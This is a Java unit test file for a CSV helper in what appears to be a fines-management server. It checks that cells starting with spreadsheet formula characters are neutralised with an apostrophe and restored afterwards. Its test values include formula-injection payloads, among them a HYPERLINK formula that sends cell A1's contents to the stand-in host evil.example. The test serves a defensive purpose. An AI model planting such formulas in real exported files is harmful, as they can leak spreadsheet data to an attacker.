package com.finehero.server.fines;

import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/** CSV cells a spreadsheet would run as formulas, written as text and read back as they were. */
class CsvTest {

    @ParameterizedTest
    @ValueSource(strings = {"=1+2", "+1 555 0100", "-2", "@SUM(A1:A2)", "\tleading tab", "\rleading return",
            "=HYPERLINK(\"https://evil.example\",\"Click\")"})
    void formulaStartsGetAnApostropheAndComeBack(String value) {
        String cell = Csv.neutralised(value);
        assertThat(cell).isEqualTo("'" + value);
        assertThat(Csv.restored(cell)).isEqualTo(value);
    }

    @ParameterizedTest
    @ValueSource(strings = {"'=already marked", "''@twice", "'-"})
    void apostrophesBeforeAFormulaStartRoundTrip(String value) {
        assertThat(Csv.neutralised(value)).isEqualTo("'" + value);
        assertThat(Csv.restored(Csv.neutralised(value))).isEqualTo(value);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "plain", "O'Brien", "'quoted'", "'", "45.50", "a=b", "2026-11-01T10:00:00Z"})
    void otherValuesAreWrittenAndReadAsTheyAre(String value) {
        assertThat(Csv.neutralised(value)).isEqualTo(value);
        assertThat(Csv.restored(value)).isEqualTo(value);
    }

    @Test
    void aNeutralisedFormulaWithQuotesSurvivesALineAndItsParse() {
        String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
        String line = Csv.line(List.of("SF-1", Csv.neutralised(formula), "@x"));
        assertThat(line).startsWith("SF-1,\"'=HYPERLINK(");
        assertThat(Csv.parse(line).getFirst()).containsExactly("SF-1", "'" + formula, "@x");
        assertThat(Csv.restored(Csv.parse(line).getFirst().get(1))).isEqualTo(formula);
    }
}
